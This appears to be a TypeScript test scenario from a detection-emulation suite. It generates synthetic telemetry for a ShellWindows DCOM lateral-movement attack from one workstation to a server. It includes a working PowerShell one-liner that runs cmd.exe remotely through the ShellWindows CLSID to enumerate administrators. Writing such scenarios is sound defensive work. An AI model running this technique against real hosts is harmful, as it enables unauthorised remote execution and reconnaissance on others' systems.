import { callServer, psCommand, remoteStart, runCmd } from "../actions.js";
import { ALICE_ADMIN, SRV_APP02, WKS01 } from "../estate.js";
import type { Scenario } from "../scenario.js";

export const remoteShellWindows: Scenario = {
  name: "remote-shellwindows",
  description:
    "ShellWindows (CLSID 9BA05972) from WKS01 to SRV-APP02: no new server process, inbound TCP to the logged-on user's explorer.exe, which starts cmd.exe as the interactive user",
  kind: "attack",
  variant: "ShellWindows",
  expect: { object: "ShellWindows", outcome: "executed", observed_on: "both", incidents: 1 },
  loopback: false,
  hosts: [WKS01, SRV_APP02],
  generate(ctx) {
    const { client, target } = remoteStart(
      ctx,
      WKS01,
      SRV_APP02,
      ALICE_ADMIN,
      psCommand(
        "$o=[Activator]::CreateInstance([Type]::GetTypeFromCLSID('9BA05972-F6A8-11CF-A442-00A0C90A8F39','10.0.20.12')); $o.Item().Document.Application.ShellExecute('cmd.exe','/c net localgroup administrators > C:\\Windows\\Temp\\g.txt','C:\\Windows\\System32',$null,0)",
      ),
      "NTLM",
    );
    // ShellWindows lives in the interactive user's explorer.exe (alice.admin's RDP session on the server).
    const explorer = target.explorer(ctx.principal(ALICE_ADMIN));
    callServer(ctx, client, explorer, 980);
    const cmd = runCmd(ctx, explorer, "/c net localgroup administrators > C:\\Windows\\Temp\\g.txt", 1240);
    ctx.emu.startProcess(
      { parent: cmd, image: "C:\\Windows\\System32\\net.exe", commandLine: "net  localgroup administrators" },
      ctx.at(1300),
    );
    ctx.emu.fileCreate(cmd, "C:\\Windows\\Temp\\g.txt", ctx.at(1310));
    ctx.emu.endProcess(cmd, ctx.at(1420));
    ctx.emu.endProcess(client, ctx.at(2000));
    return ctx.produced();
  },
};
